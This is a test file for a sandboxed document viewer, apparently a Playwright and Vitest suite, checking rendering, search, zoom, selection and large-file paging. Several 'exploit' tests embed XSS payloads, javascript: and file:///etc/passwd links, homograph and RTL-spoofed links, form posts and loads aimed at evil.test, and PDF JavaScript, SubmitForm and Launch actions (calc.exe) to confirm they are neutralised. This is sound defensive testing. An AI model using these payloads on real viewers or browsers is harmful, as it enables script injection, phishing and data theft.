import type { Frame } from 'playwright-core'
import { expect, test } from 'vitest'
import type { FromViewer } from '../../../renderer/viewer/viewer-messages.ts'
import { pdfOf } from '../../support/many-pages.ts'
import { asset, ORIGIN, settle, showFile, text, useViewerPage } from '../../support/viewer-page.ts'

useViewerPage()

test('exploit: a page’s scripts, handlers, frames, forms and addresses do nothing', async () => {
  const { page, frame, asked } = await showFile({
    type: 'html',
    bytes:
      text(`<!doctype html><html><head><base href="https://evil.test/"><link rel="stylesheet" href="https://evil.test/a.css">
      <meta http-equiv="refresh" content="0;url=https://evil.test/r"><style>@import 'https://evil.test/b.css'</style></head>
      <body onload="parent.postMessage('hacked','*')"><h1>Protocol</h1>
      <script>parent.postMessage('hacked','*')</script><script src="https://evil.test/s.js"></script>
      <img src="https://evil.test/i.png" onerror="parent.postMessage('hacked','*')"><img src=x onerror=alert(1)>
      <svg onload="parent.postMessage('hacked','*')"><script>alert(1)</script></svg>
      <iframe src="https://evil.test/f"></iframe><object data="https://evil.test/o"></object><embed src="https://evil.test/e">
      <form action="https://evil.test/p"><button>Send</button><input autofocus onfocus=alert(1)></form>
      <a href="https://evil.test/link" target="_top">a link</a><a href="javascript:alert(1)">another</a>
      <p style="background:url(https://evil.test/bg)">kept text</p><video src="https://evil.test/v" autoplay></video>
      <math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
      </body></html>`),
  })
  await settle(page)
  const content = frame.locator('#content')
  expect(await content.innerText()).toContain('Protocol')
  expect(await content.innerText()).toContain('kept text')
  expect(await content.locator('a').allTextContents()).toEqual(['a link', 'another'])
  const html = await content.innerHTML()
  expect(html).not.toMatch(
    /<script|<style|<iframe|<object|<embed|<form|<input|<button|<svg|<math|<video|\son\w+=|href=|style=/i,
  )
  expect(asked).toEqual([])
  expect(await page.evaluate(() => (window as unknown as { heard: unknown[] }).heard)).not.toContain('hacked')
  expect(page.url()).toBe(`${ORIGIN}/`)
})

test('exploit: the frame has an origin of its own and reaches neither the page nor a network', async () => {
  const { frame, asked } = await showFile({ type: 'text/plain', bytes: text('x') })
  const reach = await frame.evaluate(async () => {
    const attempt = async (what: () => unknown) => {
      try {
        await what()
        return 'reached'
      } catch {
        return 'refused'
      }
    }
    return {
      origin: window.origin,
      parent: await attempt(() => window.parent.document.title),
      storage: await attempt(() => window.localStorage.length),
      network: await attempt(() => fetch('https://evil.test/')),
      own: await attempt(() => fetch('/viewer.html')),
      script: await attempt(() => {
        const script = document.createElement('script')
        script.textContent = 'window.ran = true'
        document.body.append(script)
        if (!('ran' in window)) throw new Error('did not run')
      }),
    }
  })
  expect(reach).toEqual({
    origin: 'null',
    parent: 'refused',
    storage: 'refused',
    network: 'refused',
    own: 'refused',
    script: 'refused',
  })
  expect(asked).toEqual([])
})

const PNG = new Uint8Array(
  Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk+A8AAQUBAScY42YAAAAASUVORK5CYII=', 'base64'),
)

test('a page is shown with the pictures that came with it, and a text in place of the others', async () => {
  const { frame, asked } = await showFile({
    type: 'html',
    bytes: text(`<!doctype html><html><body><img src="1.png" alt="one"><img src="/b/1.png#x" alt="the same">
      <picture><source srcset="2.png 1x, big.png 2x"><img src="missing.png" alt="two"></picture>
      <img src="gone.png" alt="Room scan"><img src="https://evil.test/1.png"><img srcset="2.png 2x" alt="three">
      <img src="data:image/png;base64,${Buffer.from(PNG).toString('base64')}" alt="embedded">
      <img src="" data-picture='["https://a.test/b/1.png"]' alt="forged">`),
    snapshot: {
      base: 'https://a.test/b/page.html',
      pictures: ['1.png', '2.png'].map((name) => ({
        address: `https://a.test/b/${name}`,
        bytes: PNG,
        type: 'image/png',
      })),
    },
  })
  const loaded = () =>
    frame
      .locator('article img')
      .evaluateAll((images) =>
        (images as HTMLImageElement[]).filter(({ naturalWidth }) => naturalWidth > 0).map(({ alt }) => alt),
      )
  await expect.poll(loaded).toEqual(['one', 'the same', 'two', 'three', 'embedded'])
  expect(await frame.getByRole('img').evaluateAll((images) => images.map(({ textContent }) => textContent))).toEqual(
    expect.arrayContaining(['Room scan', 'Image not shown', 'forged']),
  )
  expect(asked).toEqual([])
})

const LINKS = `<!doctype html><html><body><a href="https://a.test/x?y#z">plain</a> <a href="/rel">relative</a>
  <a href="https://xn--pple-43d.test:8443/">punycode</a> <a href="https://\u0430pple.test/">cyrillic</a>
  <a href="https://bank.test/\u202egnp.exe">reversed</a> <a href="https://bank.test@evil.test/">named</a>
  <a href="javascript:alert(1)">script</a> <a href="file:///etc/passwd">file</a> <a href="mailto:a@b.test">mail</a>
  <a href="app://desk/">app</a> <a role="link" tabindex="0" data-link="app://desk/">forged</a>`

test('exploit: links are told to the page as they are, only by a click or Enter, and lead nowhere by themselves', async () => {
  const { page, frame, asked, said } = await showFile({
    type: 'html',
    bytes: text(LINKS),
    snapshot: { base: 'https://a.test/b/page.html', pictures: [] },
  })
  const links = await frame
    .getByRole('link')
    .evaluateAll((all) => all.map((link) => [link.textContent, (link as HTMLElement).title]))
  expect(links).toEqual([
    ['plain', 'https://a.test/x?y#z'],
    ['relative', 'https://a.test/rel'],
    ['punycode', 'https://xn--pple-43d.test:8443/'],
    ['cyrillic', 'https://xn--pple-43d.test/'],
    ['reversed', 'https://bank.test/%E2%80%AEgnp.exe'],
  ])
  await frame.evaluate(() => {
    for (const link of document.querySelectorAll<HTMLElement>('a')) link.click()
  })
  await settle(page)
  expect(await said('link')).toBeUndefined()
  await frame.getByText('cyrillic').click()
  await expect.poll(() => said('link')).toEqual({ kind: 'link', address: 'https://xn--pple-43d.test/' })
  await frame.getByText('relative').focus()
  await page.keyboard.press('Enter')
  await expect.poll(() => said('link')).toEqual({ kind: 'link', address: 'https://a.test/rel' })
  for (const name of ['named', 'script', 'file', 'mail', 'app', 'forged'])
    await frame.getByText(name, { exact: true }).click()
  await settle(page)
  expect(await said('link')).toEqual({ kind: 'link', address: 'https://a.test/rel' })
  expect(asked).toEqual([])
  expect(frame.url()).toBe(`${ORIGIN}/viewer.html`)
})

test('exploit: a PDF with scripts and launch actions does nothing, and its links are told to the page', async () => {
  const annotation = (top: number, action: string) =>
    `<< /Type /Annot /Subtype /Link /Rect [60 ${top - 20} 300 ${top}] /Border [0 0 0] /A << ${action} >> >>`
  const script = `/S /JavaScript /JS (app.alert\\('hacked'\\); this.submitForm\\('https://evil.test/'\\))`
  const { page, frame, asked, said } = await showFile({
    type: 'application/pdf',
    bytes: pdfOf(['Links'], {
      catalog: `/OpenAction << ${script} >> /Names << /JavaScript << /Names [(a) << ${script} >>] >> >> /AA << /WC << ${script} >> >>`,
      page: `/AA << /O << ${script} >> >> /Annots [${[
        annotation(700, '/S /URI /URI (https://a.test/doc)'),
        annotation(600, '/S /Launch /F (C:\\\\Windows\\\\System32\\\\calc.exe)'),
        annotation(500, script),
        annotation(400, '/S /URI /URI (file:///etc/passwd)'),
        annotation(300, '/S /SubmitForm /F (https://evil.test/submit)'),
        annotation(200, '/S /GoToR /F (https://evil.test/remote.pdf)'),
      ].join(' ')}]`,
    }),
  })
  const links = frame.getByRole('link')
  await links.first().waitFor()
  const addresses = await links.evaluateAll((all) => all.map((link) => (link as HTMLElement).title))
  expect(addresses[0]).toBe('https://a.test/doc')
  expect(addresses.filter((address) => !/^https:\/\/(?:a|evil)\.test\//.test(address))).toEqual([])
  await links.first().click()
  await expect.poll(() => said('link')).toEqual({ kind: 'link', address: 'https://a.test/doc' })
  await settle(page)
  expect(asked).toEqual([])
})

test('exploit: HTML in a text file is text', async () => {
  const { frame } = await showFile({ type: 'text/plain', bytes: text('<img src=x onerror=alert(1)>') })
  expect(await frame.locator('#content').innerText()).toBe('<img src=x onerror=alert(1)>')
})

test('a PDF is drawn, with its text selectable', async () => {
  const { frame } = await showFile({ type: 'application/pdf', bytes: asset('recommendation.pdf') })
  await frame.locator('.textLayer span').first().waitFor({ state: 'attached' })
  expect(await frame.locator('.page').first().getAttribute('aria-label')).toMatch(/^Page 1 of \d+$/)
  expect(await frame.locator('.textLayer').first().innerText()).toContain('Recommendation')
  const inked = await frame
    .locator('canvas')
    .first()
    .evaluate((canvas: HTMLCanvasElement) => {
      const pixels = canvas.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height).data ?? []
      let dark = 0
      for (let index = 0; index < pixels.length; index += 4) if ((pixels[index] ?? 255) < 100) dark += 1
      return dark
    })
  expect(inked).toBeGreaterThan(500)
})

test('a Word document is shown with its headings and tables', async () => {
  const { frame } = await showFile({ type: 'docx', bytes: asset('rota-plan.docx') })
  expect(await frame.locator('article h1, article h2').first().innerText()).toBe('Rota plan')
  expect(await frame.locator('article td').count()).toBeGreaterThan(2)
})

test('a picture is shown', async () => {
  const { frame } = await showFile({ type: 'image/jpeg', bytes: asset('site-photo.jpg') })
  expect(await frame.locator('img').evaluate((image: HTMLImageElement) => image.naturalWidth)).toBeGreaterThan(100)
})

test('a damaged file says that it cannot be shown', async () => {
  for (const type of ['application/pdf', 'docx', 'image/png'] as const) {
    const { frame } = await showFile({ type, bytes: text('%PDF- nothing of the kind') })
    await frame.getByText('Failed').waitFor()
  }
})

test('the frame says how high the file is, at each zoom, and needs no scroll bar of its own then', async () => {
  const { page, frame, send, said } = await showFile({ type: 'text/plain', bytes: text('One line.\n'.repeat(12)) })
  await expect.poll(() => said('size')).toBeDefined()
  const { height = 0 } = (await said('size')) ?? {}
  expect(height).toBeGreaterThan(200)
  expect(height).toBeLessThan(400)
  await page.evaluate((pixels) => document.querySelector('iframe')!.setAttribute('height', String(pixels)), height)
  const overflow = () => frame.locator('#scroller').evaluate((element) => element.scrollHeight - element.clientHeight)
  await expect.poll(overflow).toBe(0)
  await send({ kind: 'zoom', percent: 200 })
  await expect.poll(async () => (await said('size'))?.height).toBeGreaterThan(1.5 * height)
})

test('a small picture is shown as large as it is, and twice that at 200%', async () => {
  const { frame, send } = await showFile({ type: 'image/png', bytes: asset('rota.png') })
  const widths = () =>
    frame
      .locator('img')
      .evaluate((image: HTMLImageElement) => [image.naturalWidth, image.getBoundingClientRect().width])
  const [natural = 0, shown] = await widths()
  expect(shown).toBe(Math.min(natural, 800))
  await send({ kind: 'zoom', percent: 200 })
  await expect.poll(async () => (await widths())[1]).toBe(2 * (shown ?? 0))
})

const PAGES = Array.from({ length: 12 }, (_, index) =>
  index % 4 === 2 ? `Chapter ${index + 1}\nThe rota of the north\nbranch is na\\357ve` : `Chapter ${index + 1}`,
)

test('pages of a PDF: the page in view is told, gone to, and drawn sharp at each zoom in its place', async () => {
  const { frame, send, said } = await showFile({ type: 'application/pdf', bytes: pdfOf(PAGES) }, 3)
  await expect.poll(() => said('page')).toEqual({ kind: 'page', number: 3, total: 12 })
  await send({ kind: 'page', number: 7 })
  await expect.poll(() => said('page')).toEqual({ kind: 'page', number: 7, total: 12 })
  const seventh = frame.locator('.page').nth(6)
  await seventh.locator('.textLayer span').first().waitFor({ state: 'attached' })
  const canvasWidth = () => seventh.locator('canvas').evaluate((canvas: HTMLCanvasElement) => canvas.width)
  const before = await canvasWidth()
  await send({ kind: 'zoom', percent: 200 })
  await expect.poll(canvasWidth).toBeGreaterThan(1.9 * before)
  expect((await said('page'))?.number).toBe(7)
  expect(await seventh.locator('canvas').count()).toBe(1)
  expect(await seventh.locator('.textLayer').count()).toBe(1)

  await frame.locator('#scroller').evaluate((scroller) => (scroller.scrollTop = scroller.scrollHeight))
  await expect.poll(() => said('page')).toEqual({ kind: 'page', number: 12, total: 12 })
  await expect.poll(() => seventh.locator('canvas').count()).toBe(0)
})

test('pages that a search jumps over are released', async () => {
  const bytes = pdfOf(Array.from({ length: 60 }, (_, index) => `Chapter ${index}`))
  const { frame, send, said } = await showFile({ type: 'application/pdf', bytes })
  await send({ kind: 'find', text: 'chapter' })
  await expect.poll(() => said('matches')).toMatchObject({ at: 1, total: 60, isDone: true })
  for (let step = 0; step < 40; step += 1) await send({ kind: 'findStep', step: 1 })
  await expect.poll(() => said('matches')).toMatchObject({ at: 41 })
  await expect.poll(() => frame.locator('.page').nth(40).locator('.textLayer').count()).toBe(1)
  // Those in the 400 pixels of the view and near it.
  await expect.poll(() => frame.locator('.page canvas').count()).toBeLessThan(5)
})

test('a page that cannot be drawn says so, and is drawn when asked again', async () => {
  const { frame, send, said } = await showFile({ type: 'application/pdf', bytes: pdfOf(PAGES) })
  await expect.poll(() => said('page')).toBeDefined()
  await frame.evaluate(() => {
    const { getContext } = HTMLCanvasElement.prototype
    Object.assign(window, { giveBack: () => (HTMLCanvasElement.prototype.getContext = getContext) })
    HTMLCanvasElement.prototype.getContext = () => null
  })
  await send({ kind: 'page', number: 9 })
  const ninth = frame.locator('.page').nth(8)
  const again = ninth.getByRole('button', { name: 'Again' })
  await again.waitFor()
  expect(await ninth.textContent()).toBe('No page Again')
  await frame.evaluate(() => (window as unknown as { giveBack: () => void }).giveBack())
  await again.click()
  await ninth.locator('.textLayer span').first().waitFor({ state: 'attached' })
  expect(await ninth.locator('canvas').count()).toBe(1)
  expect(await again.count()).toBe(0)
})

test('text is found in all pages of a PDF, across the ends of lines and whatever its accents', async () => {
  const { frame, send, said } = await showFile({ type: 'application/pdf', bytes: pdfOf(PAGES) })
  await expect.poll(() => said('page')).toBeDefined()
  await send({ kind: 'find', text: 'North BRANCH is naive' })
  await expect.poll(() => said('matches')).toMatchObject({ at: 1, total: 3, isMore: false, isDone: true })
  await expect.poll(async () => (await said('page'))?.number).toBe(3)
  for (const [at, number] of [
    [2, 7],
    [3, 11],
    [1, 3],
  ] as const) {
    await send({ kind: 'findStep', step: 1 })
    await expect.poll(async () => (await said('matches'))?.at).toBe(at)
    await expect.poll(async () => (await said('page'))?.number).toBe(number)
    const marked = () => frame.evaluate(() => [...(CSS.highlights.get('found-shown') ?? [])].map(String))
    await expect.poll(marked).toEqual([expect.stringMatching(/^north\s*branch is naïve$/)])
  }
  await send({ kind: 'findStep', step: -1 })
  await expect.poll(async () => (await said('matches'))?.at).toBe(3)
  await send({ kind: 'find', text: 'Chapter 1' })
  await expect.poll(() => said('matches')).toMatchObject({ total: 4, isDone: true })
  await send({ kind: 'find', text: 'nowhere' })
  await expect.poll(() => said('matches')).toEqual({ kind: 'matches', at: 0, total: 0, isMore: false, isDone: true })
})

test('text is found in a document without a change of it, and a match is brought into view', async () => {
  const lines = Array.from(
    { length: 300 },
    (_, index) => `Line ${index}${index === 250 ? ' has the na\u00efve plan' : ''}`,
  )
  const { frame, send, said } = await showFile({ type: 'text/plain', bytes: text(lines.join('\n')) })
  const before = await frame.locator('#content').innerHTML()
  await send({ kind: 'find', text: 'NAIVE' })
  await expect.poll(() => said('matches')).toMatchObject({ at: 1, total: 1, isDone: true })
  expect(await frame.locator('#content').innerHTML()).toBe(before)
  const place = await frame.evaluate(() => {
    const [range] = (CSS.highlights.get('found-shown') ?? []) as unknown as Iterable<Range>
    return range?.getBoundingClientRect().top ?? -1
  })
  expect(place).toBeGreaterThan(0)
  expect(place).toBeLessThan(400)

  await send({ kind: 'selectMatch' })
  await expect.poll(async () => (await said('selection'))?.passage?.quote).toBe('naïve')

  await send({ kind: 'find', text: 'e' })
  await expect.poll(() => said('matches')).toMatchObject({ total: 302, isMore: false })
  await send({ kind: 'find', text: '' })
  await expect.poll(() => frame.evaluate(() => CSS.highlights.get('found')?.size)).toBe(0)
})

const MARK = { tone: 'warn', page: null, part: null, before: '', after: '' } as const
const markId = (digit: number) => String(digit).repeat(32)

/** Selects text as the user does by the mouse. */
const select = (frame: Frame, from: readonly [string, number], to: readonly [string, number]) =>
  frame.evaluate(
    ([start, end]) => {
      const find = ([text, offset]: readonly [string, number]) => {
        const walker = document.createTreeWalker(document.getElementById('content')!, NodeFilter.SHOW_TEXT)
        for (let node = walker.nextNode(); node; node = walker.nextNode())
          if (node.textContent?.includes(text)) return { node, at: node.textContent.indexOf(text) + offset }
        throw new Error(`no ${text}`)
      }
      const [one, other] = [find(start), find(end)]
      document.getSelection()?.setBaseAndExtent(one.node, one.at, other.node, other.at)
    },
    [from, to] as const,
  )

const highlighted = (frame: Frame, name: string) =>
  frame.evaluate((wanted) => [...(CSS.highlights.get(wanted) ?? [])].map(String), name)

test('words of colored code are told and marked across its colors, and cells of a table are not told', async () => {
  const code = 'def rota(days):\n    return [day for day in days if day != "Sunday"]\n'
  const file = await showFile({ type: 'text/plain', name: 'rota.py', bytes: text(code) })
  await file.frame.locator('pre span').first().waitFor()
  await select(file.frame, ['return', 0], ['"Sunday"', 8])
  const quote = 'return [day for day in days if day != "Sunday"'
  const told = () => file.said('selection')
  await expect.poll(told).toMatchObject({ passage: { quote, start: code.indexOf(quote), after: ']\n' } })
  await file.send({ kind: 'marks', marks: [{ ...MARK, id: markId(1), start: 0, quote }] })
  await expect.poll(() => highlighted(file.frame, 'note-warn')).toEqual([quote])

  const table = await showFile({
    type: 'csv',
    text: { encoding: 'utf-8', delimiter: ',' },
    bytes: text('name,place\nAnn,here\n'),
  })
  await select(table.frame, ['name', 0], ['name', 4])
  await settle(table.page)
  await settle(table.page)
  await settle(table.page)
  expect(await table.said('selection')).toBeUndefined()
})

test('selected words of a text and of a Word document are told with what is around them', async () => {
  const plain = await showFile({ type: 'text/plain', bytes: text('One line.\nAnother line of the text.\nThe end.') })
  await select(plain.frame, ['Another', 0], ['Another', 12])
  await expect
    .poll(() => plain.said('selection'))
    .toEqual({
      kind: 'selection',
      passage: {
        page: null,
        part: null,
        start: 10,
        quote: 'Another line',
        before: 'One line.\n',
        after: ' of the text.\nThe end.',
      },
    })
  await plain.send({ kind: 'clearSelection' })
  await expect.poll(() => plain.said('selection')).toEqual({ kind: 'selection', passage: null })

  const word = await showFile({ type: 'docx', bytes: asset('rota-plan.docx') })
  await select(word.frame, ['Rota plan', 0], ['Rota plan', 9])
  await expect.poll(async () => (await word.said('selection'))?.passage).toMatchObject({ quote: 'Rota plan', start: 0 })
})

test('passages of a PDF: selected on their page, highlighted when it is drawn, gone to, clicked and told if lost', async () => {
  const { page, frame, send, said } = await showFile({ type: 'application/pdf', bytes: pdfOf(PAGES) })
  await frame.locator('.textLayer span').first().waitFor({ state: 'attached' })
  await send({ kind: 'page', number: 3 })
  await frame.locator('.page').nth(2).getByText('branch').waitFor({ state: 'attached' })
  await select(frame, ['The rota of the north', 4], ['branch is', 6])
  await expect
    .poll(async () => (await said('selection'))?.passage)
    .toEqual({
      ...{ page: 3, part: null, start: 14, quote: 'rota of the north\nbranch' },
      ...{ before: 'Chapter 3\nThe ', after: expect.stringMatching(/^ is na/) as string },
    })
  const { passage } = (await said('selection'))!
  const marks = [
    { ...MARK, ...passage!, page: 7, id: markId(1) },
    { ...MARK, page: 2, start: 0, quote: 'Chapter 11', id: markId(2) },
    { ...MARK, page: 1, start: 0, quote: 'This was never in it', id: markId(3) },
  ]
  await send({ kind: 'marks', marks })
  const found = () =>
    page.evaluate(() =>
      (window as unknown as { heard: FromViewer[] }).heard.flatMap((message) =>
        message.kind === 'markFound' ? [`${message.id[0]} ${message.is}`] : [],
      ),
    )
  await expect.poll(found).toEqual(['1 same', '2 moved', '3 lost'])
  expect(await highlighted(frame, 'note-warn')).toEqual([])
  await send({ kind: 'goToMark', id: markId(1) })
  await expect.poll(async () => (await said('page'))?.number).toBe(7)
  await expect
    .poll(() => highlighted(frame, 'note-warn'))
    .toEqual([expect.stringMatching(/^rota of the north\s*branch$/)])
  await send({ kind: 'currentMark', id: markId(1) })
  await expect.poll(() => highlighted(frame, 'note-current')).toHaveLength(1)
  await send({ kind: 'clearSelection' })
  await settle(page)
  await frame.locator('.page').nth(6).getByText('The rota of the north').click()
  await expect.poll(() => said('markChosen')).toEqual({ kind: 'markChosen', id: markId(1) })
  await send({ kind: 'marks', marks: [] })
  await expect.poll(() => highlighted(frame, 'note-warn')).toEqual([])
})

test('passages of a large text: selected and gone to in their part', async () => {
  const { frame, send, said } = await showFile({ type: 'text/plain', bytes: text(''), large: LARGE }, 1, readLines)
  await frame.getByText('000000000 naïve').waitFor()
  const line = 7_500_000
  const part = Math.floor((line * LINE) / (256 * 1024)) + 1
  await send({ kind: 'marks', marks: [{ ...MARK, part, start: 0, quote: 'with a needle', id: markId(1) }] })
  await expect.poll(() => said('markFound')).toMatchObject({ is: 'moved' })
  await send({ kind: 'goToMark', id: markId(1) })
  await expect.poll(() => highlighted(frame, 'note-warn')).toEqual(['with a needle'])
  await select(frame, ['with a needle', 7], ['with a needle', 13])
  await expect.poll(async () => (await said('selection'))?.passage).toMatchObject({ page: null, part, quote: 'needle' })
})

const LINE = 50
const LENGTH = 500_000_000

/** A line of 50 bytes, some of which are in the middle of a character at the end of a part. */
const lineAt = (index: number) => {
  const line = `${String(index).padStart(9, '0')} naïve text ${index === 7_500_000 ? 'with a needle' : 'of a log'} `
  return `${line}${'ä'.repeat((LINE - 1 - Buffer.byteLength(line)) >> 1)}`.padEnd(LINE - 3, '.').slice(0, 49)
}
function readLines(first: number, size: number): Uint8Array {
  const last = Math.min(first + size, LENGTH)
  const lines: Buffer[] = []
  for (let line = Math.floor(first / LINE); line * LINE < last; line += 1) {
    const bytes = Buffer.alloc(LINE, '.')
    bytes.write(lineAt(line))
    bytes[LINE - 1] = 10
    lines.push(bytes)
  }
  const start = first % LINE
  return new Uint8Array(Buffer.concat(lines).subarray(start, start + last - first))
}
const LARGE = { encoding: 'utf-8', version: { length: LENGTH, etag: null, lastModified: null } } as const

test('a text of 500 MB: of it a few parts are in the document, wherever the view goes', async () => {
  let read = 0
  const { page, frame, said } = await showFile(
    { type: 'text/plain', bytes: text(''), large: LARGE },
    1,
    (first, size) => {
      read += size
      return readLines(first, size)
    },
  )
  const shown = () => frame.locator('pre').evaluate((element) => element.textContent.length)
  const top = () =>
    frame.evaluate(() => {
      const { left, top } = document.getElementById('scroller')!.getBoundingClientRect()
      const position = document.caretPositionFromPoint(left + 40, top + 60)
      const whole = position?.offsetNode.textContent ?? ''
      const start = whole.lastIndexOf('\n', (position?.offset ?? 0) - 1) + 1
      return Number(whole.slice(start, start + 9))
    })
  const scrolled = async (by: number) => {
    await frame.locator('#scroller').evaluate((element, pixels) => element.scrollBy(0, pixels), by)
    return top()
  }
  await frame.getByText('000000000 naïve').waitFor()
  const bar = frame.getByRole('slider', { name: 'Position' })
  const [textBox, barBox] = [await frame.locator('#scroller').boundingBox(), await bar.boundingBox()]
  expect(textBox?.height).toBe(400)
  expect(barBox?.height).toBeGreaterThan(380)
  expect(barBox?.x).toBeGreaterThanOrEqual((textBox?.x ?? 0) + (textBox?.width ?? 0))
  expect(await frame.locator('#scroller').evaluate((element) => element.scrollTop)).toBe(0)
  await bar.fill('50000')
  await expect.poll(() => said('position')).toMatchObject({ percent: 50 })
  await expect.poll(async () => Math.abs((await top()) - LENGTH / LINE / 2)).toBeLessThan(6000)
  // On, across several parts, as by the wheel: each line follows the one before.
  let before = await top()
  for (let step = 0; step < 60; step += 1) {
    await expect.poll(() => scrolled(4000)).toBeGreaterThan(before)
    const now = await top()
    expect(now - before).toBeLessThan(450)
    before = now
  }
  for (let step = 0; step < 60; step += 1) {
    await expect.poll(() => scrolled(-4000)).toBeLessThan(before)
    before = await top()
  }
  expect(await shown()).toBeLessThan(5 * 256 * 1024)
  expect(await frame.locator('pre').evaluate((element) => element.textContent.includes('\ufffd'))).toBe(false)
  await frame.locator('#scroller').focus()
  await page.keyboard.press('End')
  await frame.getByText(String(LENGTH / LINE - 1)).waitFor()
  await expect.poll(() => said('position')).toMatchObject({ percent: 100 })
  await page.keyboard.press('Home')
  await frame.getByText('000000000 naïve').waitFor()
  expect(await shown()).toBeLessThan(5 * 256 * 1024)
  expect(read).toBeLessThan(20_000_000)
})

test('a large text is searched whole, from the view on and then from its beginning', async () => {
  const length = 6 * 256 * 1024
  // In every part one, at its end, so that it ends in the next.
  const bytes = new Uint8Array(length).fill(46)
  for (let at = 80; at < length; at += 81) bytes[at] = 10
  for (let part = 1; part < 6; part += 1) bytes.set(text('A Needle'), part * 256 * 1024 - 4)
  const large = { encoding: 'utf-8', version: { length, etag: null, lastModified: null } } as const
  const { frame, send, said } = await showFile({ type: 'text/plain', bytes: text(''), large }, 1, (first, size) =>
    bytes.slice(first, first + size),
  )
  await frame.locator('pre span').first().waitFor()
  await frame.getByRole('slider', { name: 'Position' }).fill('50000')
  await expect.poll(() => said('position')).toMatchObject({ percent: 50 })
  await send({ kind: 'find', text: 'a NEEDLE' })
  await expect.poll(() => said('matches')).toMatchObject({ total: 5, isDone: true })
  const marked = () =>
    frame.evaluate(() =>
      ([...(CSS.highlights.get('found-shown') ?? [])] as Range[]).map((range) => {
        const { top, bottom } = range.getBoundingClientRect()
        return `${range.toString()} ${top >= 0 && bottom <= innerHeight}`
      }),
    )
  const first = (await said('matches'))?.at ?? 0
  expect(first).toBeGreaterThan(2)
  for (let step = 0; step < 6; step += 1) {
    await send({ kind: 'findStep', step: 1 })
    await expect.poll(async () => (await said('matches'))?.at).toBe(((first + step) % 5) + 1)
    await expect.poll(marked).toEqual(['A Needle true'])
  }
  await send({ kind: 'selectMatch' })
  // Of a passage in two parts the note has what is in the first.
  await expect.poll(async () => (await said('selection'))?.passage).toMatchObject({ quote: 'A Ne' })
  await send({ kind: 'find', text: 'nowhere' })
  await expect.poll(() => said('matches')).toEqual({ kind: 'matches', at: 0, total: 0, isMore: false, isDone: true })
})

test('a part of a large text that cannot be read says why, and is read when asked again', async () => {
  let isGone = false
  const { frame } = await showFile({ type: 'text/plain', bytes: text(''), large: LARGE }, 1, (first, size) =>
    isGone ? null : readLines(first, size),
  )
  await frame.getByText('000000000 naïve').waitFor()
  isGone = true
  await frame.getByRole('slider', { name: 'Position' }).fill('70000')
  const again = frame.getByRole('button', { name: 'Again' })
  await again.waitFor()
  expect(await frame.getByRole('alert').textContent()).toBe('No part: gone Again')
  isGone = false
  await again.click()
  await expect.poll(() => frame.locator('pre').textContent()).toMatch(/0069\d{5} naïve/)
  expect(await again.count()).toBe(0)
})

test('keys that the frame does not use go on to the page, and no others', async () => {
  const { page, frame } = await showFile({ type: 'text/plain', bytes: text('x') })
  await frame.locator('#scroller').focus()
  for (const key of ['Control+f', 'a', 'ArrowDown', 'Escape', 'j', 'Enter', '1', 'ArrowLeft', 'Alt+ArrowLeft'])
    await page.keyboard.press(key)
  const keys = () =>
    page.evaluate(() =>
      (window as unknown as { heard: FromViewer[] }).heard.flatMap((message) =>
        message.kind === 'key' ? [message.key] : [],
      ),
    )
  await expect.poll(keys).toEqual(['f', 'Escape', 'j', 'ArrowLeft'])
})
